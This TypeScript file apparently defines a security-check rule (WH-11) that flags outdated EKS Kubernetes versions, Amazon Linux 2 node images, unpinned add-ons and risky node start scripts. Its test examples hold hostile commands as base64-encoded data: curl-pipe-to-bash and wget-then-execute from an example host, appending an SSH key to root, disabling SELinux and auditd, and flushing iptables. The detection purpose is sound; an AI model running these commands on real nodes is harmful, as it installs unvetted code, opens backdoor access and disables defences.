/**
 * Clusters run a supported Kubernetes version, nodes a supported, minimal operating system, and what nodes run at their start does not fetch and
 * execute, add SSH keys, switch off SELinux or auditd, or edit iptables.
 *
 * Support ends by `data/eks_versions.json` at the time of judgement; extended support is advice. An own image is judged by the allow-list, since
 * its content cannot be seen. Amazon Linux 2 is what a node group gets that names no amiType on Kubernetes before 1.30 (EKS API, CreateNodegroup).
 */

import { faultsIn } from "../../analysis/shell/start-script";
import { defineRule, type Evidence, fail, type RuleContext, seen, undetermined, type Verdict } from "../../engine/rule";
import { resources } from "../../engine/targets";
import { nodeGroups } from "../../model/aws/nodes";
import { refersTo } from "../../model/aws/references";
import { EKS_ADDON, EKS_CLUSTER, EKS_NODE_GROUP, LAUNCH_CONFIGURATION, LAUNCH_TEMPLATE } from "../../model/aws/types";
import { startsNode, userDataOf } from "../../model/aws/user-data";
import type { CoreModel } from "../../model/core";
import type { Resource } from "../../model/stack";
import { valueOr } from "../../model/value";
import { type Properties, resource, unknownValue } from "../../testing/build";
import calendar from "../../topology/data/eks_versions.json";

export default defineRule({
  id: "WH-11",
  name: "wh-11-supported-node-operating-system",
  title: "Supported, minimal, integrity-protected node operating system and Kubernetes version",
  family: "workload",
  severity: "high",
  scope: "both",
  since: "0.1.0",
  target: resources(EKS_CLUSTER, EKS_NODE_GROUP, LAUNCH_TEMPLATE, LAUNCH_CONFIGURATION, EKS_ADDON),
  rationale:
    "A function is as strong as the kernel under it: versions without fixes are broken out of with published exploits, and a start script that runs whatever a server hands out puts unauthorised software on every node of the core.",
  remediation:
    "Upgrade the cluster to a version in standard support, use Bottlerocket or AL2023 node images, pin addonVersion, bake what nodes need (gtp5g, DPDK) into a golden AMI that rules.WH-11.images lists, and keep downloads, SSH keys, setenforce, auditd and iptables out of the user data.",
  options: {
    images: { type: "strings", description: "Ids of the golden AMIs that nodes may run (UPF nodes with gtp5g or DPDK); once it names any, others are refused.", default: [] },
  },
  standards: [
    { framework: "NSA/CISA ESF 5G Cloud", ref: "I-2", title: "Part I: keep 5G cloud software up to date" },
    { framework: "NSA/CISA ESF 5G Cloud", ref: "IV", title: "Part IV: integrity of cloud infrastructure (platform, build, launch, microservices)" },
    { framework: "3GPP TS 33.117 (SCAS)", ref: "4.3.2.5", title: "No unsupported components" },
    { framework: "3GPP TS 33.117 (SCAS)", ref: "4.2.3.3.5", title: "Network Product software package integrity" },
    { framework: "ENISA 5G SCM v1.3", ref: "SO12-039", title: "Operating systems hardening" },
    { framework: "ENISA 5G SCM v1.3", ref: "SO12-066", title: "Regular and effective patch management. Ideally, applying patches is fully automated." },
    { framework: "NIST SP 800-53r5", ref: "SI-2", title: "Flaw Remediation" },
    { framework: "NIST CSWP 36B", ref: "", title: "hardware-enabled platform integrity" },
    { framework: "NIST SP 800-190", ref: "4.5.1", title: "Large attack surface (host OS)" },
    { framework: "NIST SP 800-190", ref: "4.5.3", title: "Host OS component vulnerabilities" },
  ],
  breaks: [
    { id: "FGT1542.501", name: "Unauthorized Software In NFVI" },
    { id: "FGT1562", name: "Impair Defenses" },
    { id: "T1525", name: "Implant Internal Image" },
  ],
  *check(subject, context) {
    switch (subject.type) {
      case EKS_CLUSTER:
        yield* supportedVersion(subject, context);
        return;
      case EKS_ADDON:
        yield* pinnedAddOn(subject);
        return;
      case EKS_NODE_GROUP:
        yield* supportedImage(subject, context);
        return;
      default:
        yield* startOf(subject, context);
    }
  },
  examples: () => ({
    pass: [
      { name: "a version in standard support", resources: [cluster({ version: "1.35" })], knowledge: AT },
      { name: "the newest version, unsaid", resources: [cluster({})], knowledge: AT },
      { name: "Bottlerocket", resources: [nodes({ amiType: "BOTTLEROCKET_x86_64" })] },
      { name: "a golden image for the user plane", resources: [template({ imageId: "ami-0upf", userData: encoded("#!/bin/bash\n/etc/eks/bootstrap.sh core\nmodprobe gtp5g\ncurl -s http://169.254.169.254/latest/meta-data/instance-id") })], settings: { rules: { "WH-11": { options: { images: ["ami-0upf"] } } } } },
      { name: "a launch template of no node", resources: [template({ userData: encoded("#!/bin/bash\ncurl x | sh") })] },
      { name: "a pinned add-on", resources: [resource(EKS_ADDON, "cni", { addonName: "vpc-cni", addonVersion: "v1.19.2-eksbuild.1" })] },
    ],
    fail: [
      { name: "a version without any support", resources: [cluster({ version: "1.28" })], knowledge: AT },
      { name: "standard support has ended and no other is wanted", resources: [cluster({ version: "1.32", upgradePolicy: { supportType: "STANDARD" } })], knowledge: AT },
      { name: "extended support is advice", resources: [cluster({ version: "1.33" })], knowledge: AT },
      { name: "Amazon Linux 2", resources: [nodes({ amiType: "AL2_x86_64" })] },
      { name: "Amazon Linux 2 because nothing else was said", resources: [cluster({ version: "1.29", name: "core" }), nodes({ clusterName: "core" })] },
      { name: "fetch and execute", resources: [template({ userData: encoded("#!/bin/bash\n/etc/eks/bootstrap.sh core\ncurl -sfL https://x.example/i.sh | sudo bash -") })] },
      { name: "fetch to a file, then execute it", resources: [template({ userData: encoded("#!/bin/bash\n/etc/eks/bootstrap.sh core\nwget -O /tmp/agent https://x.example/agent && chmod +x /tmp/agent && /tmp/agent") })] },
      { name: "an SSH key on every node", resources: [template({ userData: encoded("#!/bin/bash\necho ssh-ed25519 AAAAC3Nz >> /root/.ssh/authorized_keys\n/etc/eks/bootstrap.sh core") })] },
      { name: "SELinux, auditd and iptables", resources: [template({ userData: encoded("#!/bin/bash\nsetenforce 0\nsystemctl disable --now auditd\niptables -F\n/etc/eks/bootstrap.sh core") })] },
      { name: "an image that the list of approved ones does not name", resources: [template({ imageId: "ami-0other", userData: encoded("#!/bin/bash\n/etc/eks/bootstrap.sh core") })], settings: { rules: { "WH-11": { options: { images: ["ami-0upf"] } } } } },
      { name: "an add-on of any version is advice", resources: [resource(EKS_ADDON, "cni", { addonName: "vpc-cni" })] },
    ],
    undetermined: [
      { name: "a version that the configuration brings", resources: [cluster({ version: unknownValue() })], knowledge: AT },
      { name: "an own image, of which nothing is said", resources: [nodes({ amiType: "CUSTOM" })] },
      { name: "user data of a node that the configuration brings", resources: [template({ userData: unknownValue() }), nodes({ amiType: "AL2023_x86_64_STANDARD", launchTemplate: { id: "lt-1" } })] },
    ],
  }),
}); // prettier-ignore

const VERSIONS = calendar.versions as {
  readonly [version: string]: { readonly standardSupportUntil: string; readonly extendedSupportUntil: string };
};
const OLDEST = 22;

function minor(version: string): number | undefined {
  const match = /^1\.(\d+)/.exec(version);
  return match === null ? undefined : Number(match[1]);
}

function* supportedVersion(cluster: Resource, context: RuleContext): Iterable<Verdict> {
  const node = cluster.props.get("version");
  const version = node.string();
  if (version.state === "absent") return;
  if (version.state === "unknown") {
    yield undetermined({
      message: `The Kubernetes version of EKS cluster ${cluster.name} is not known before deployment.`,
      evidence: [seen(node, "a version in standard support")],
      cause: "version",
    });
    return;
  }
  const support = VERSIONS[version.value];
  const number = minor(version.value);
  const old = support === undefined && number !== undefined && number < OLDEST;
  if (support === undefined && !old) return;
  const after = (date: string | undefined): boolean => date === undefined || context.knowledge.at >= Date.parse(date) + DAY;
  const ended = after(support?.extendedSupportUntil);
  const standardOnly = valueOr(cluster.props.get("upgradePolicy", "supportType").string(), "EXTENDED") === "STANDARD";
  if (!ended && !after(support?.standardSupportUntil)) return;
  yield fail({
    message: `EKS cluster ${cluster.name} runs Kubernetes ${version.value}, whose ${ended ? "" : "standard "}support ended on ${(ended ? support?.extendedSupportUntil : support?.standardSupportUntil) ?? "an old date"}: ${ended || standardOnly ? "published faults stay open until it is upgraded under the core's feet" : "it gets fixes late and at a price"} (Escape to Host).`,
    evidence: [seen(node, "a version in standard support")],
    advisory: !ended && !standardOnly,
    cause: "version",
  });
}

const DAY = 86_400_000;

function* pinnedAddOn(addOn: Resource): Iterable<Verdict> {
  const version = addOn.props.get("addonVersion");
  if (!version.isAbsent) return;
  const name = valueOr(addOn.props.get("addonName").string(), addOn.name);
  yield fail({
    message: `EKS add-on ${name} takes whichever version is the default on the day: what runs on every node of the core is nobody's decision (Implant Internal Image).`,
    evidence: [seen(version, "a version, such as v1.19.2-eksbuild.1")],
    advisory: true,
    cause: "add-on",
  });
}

function* supportedImage(group: Resource, context: RuleContext): Iterable<Verdict> {
  const node = group.props.get("amiType");
  const type = node.string();
  if (type.state === "known" && !/^AL2_|^CUSTOM$/.test(type.value)) return;
  const own = context.model.ask(nodeGroups).find((item) => item.resource === group);
  const template = own?.launchTemplate?.state === "resolved" ? own.launchTemplate.resource : undefined;
  if (template !== undefined && !template.props.get("imageId").isAbsent) return; // judged at the template
  if (type.state === "absent") {
    const cluster = own?.cluster.state === "resolved" ? own.cluster.resource : undefined;
    const version = cluster?.props.get("version").string();
    const number = version?.state === "known" ? minor(version.value) : undefined;
    // Without a version it is the newest; without a cluster in sight, that of its own version or nothing.
    if (number === undefined || number >= 30) return;
  }
  const certain = type.state === "absent" || (type.state === "known" && type.value !== "CUSTOM");
  if (type.state === "known" && type.value === "CUSTOM" && template === undefined && own?.launchTemplate?.state === "elsewhere") return;
  yield (certain ? fail : undetermined)({
    message: certain
      ? `Node group ${group.name} runs Amazon Linux 2${type.state === "absent" ? " (the default for this Kubernetes version)" : ""}, for which EKS publishes no more images: kernel faults stay open under every function (Escape to Host).`
      : `Which operating system node group ${group.name} runs cannot be seen${type.state === "known" ? " from its own image" : ""}.`,
    evidence: [seen(node, "BOTTLEROCKET_* or AL2023_*")],
    cause: "image",
  });
}

function* startOf(template: Resource, context: RuleContext): Iterable<Verdict> {
  const script = userDataOf(template);
  const use = nodeUse(template, script.text, context.model);
  if (use === "no") return;
  const wrong = use === "yes" ? fail : undetermined;
  yield* ownImage(template, wrong, context);
  if (script.node.isUnknown) {
    yield undetermined({
      message: `What the nodes of ${template.name} run at their start is not known before deployment.`,
      evidence: [seen(script.node, "nothing fetched and executed")],
      cause: "user data",
    });
    return;
  }
  const faults = faultsIn(script.text);
  if (faults.length === 0) return;
  yield wrong({
    message: `The start script of ${template.name} ${faults.map((item) => item.what).join(", ")}: every new node of the core starts with it (Unauthorized Software In NFVI).`,
    evidence: faults.map((item): Evidence => ({
      path: script.node.path,
      actual: item.seen,
      expected: "baked into the node image, or left out",
    })),
    cause: "user data",
  });
}

/** An Amazon image by its parameter's name, and with a list of approved images every other one. */
function* ownImage(template: Resource, wrong: typeof fail, context: RuleContext): Iterable<Verdict> {
  const node = template.props.get("imageId");
  const image = node.string();
  const approved = context.options["images"] as readonly string[];
  if (image.state === "absent" || (image.state === "known" && approved.includes(image.value))) return;
  const text = image.state === "known" ? image.value : "";
  if (/bottlerocket|amazon-linux-2023|al2023/i.test(text)) return;
  const al2 = /amazon-linux-2(-gpu|-arm64)?(\/|$)/.test(text);
  if (!al2 && approved.length === 0) return;
  const verdict = image.state === "known" ? wrong : undetermined;
  yield verdict({
    message: al2
      ? `The nodes of ${template.name} run Amazon Linux 2, for which EKS publishes no more images: kernel faults stay open under every function (Escape to Host).`
      : `The nodes of ${template.name} ${image.state === "known" ? "run" : "may run"} an image that is not among the approved ones: anything can be inside (Unauthorized Software In NFVI).`,
    evidence: [seen(node, al2 ? "Bottlerocket or AL2023" : approved)],
    cause: "image",
  });
}

/** Whether a launch template makes Kubernetes nodes: by its start script, or by the node group or Auto Scaling group that names it. */
function nodeUse(template: Resource, script: string, model: CoreModel): "yes" | "maybe" | "no" {
  if (startsNode(script)) return "yes";
  if (model.view === "resource") return "no";
  const answers = model
    .ask(nodeGroups)
    .map((group) => (group.launchTemplate === undefined ? "no" : refersTo(group.launchTemplate, template)));
  return answers.includes("yes") ? "yes" : answers.includes("maybe") ? "maybe" : "no";
}

const AT = { at: Date.UTC(2026, 10, 1) };

function encoded(text: string): string {
  return Buffer.from(text).toString("base64");
}

function cluster(properties: Properties) {
  return resource(EKS_CLUSTER, "core", properties);
}

function nodes(properties: Properties) {
  return resource(EKS_NODE_GROUP, "nodes", properties);
}

function template(properties: Properties) {
  return resource(LAUNCH_TEMPLATE, "nodes", { id: "lt-1", ...properties });
}
